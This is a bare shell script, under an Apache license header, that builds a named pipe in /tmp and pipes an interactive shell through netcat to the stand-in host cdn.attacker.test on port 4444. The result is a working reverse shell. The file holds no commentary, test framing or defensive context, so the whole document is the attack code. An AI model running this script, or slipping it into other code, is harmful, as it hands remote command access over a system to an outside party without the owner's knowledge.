#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
p=/tmp/.x$$
mkfifo "$p"
sh -i < "$p" 2>&1 | nc cdn.attacker.test 4444 > "$p"
rm -f "$p"
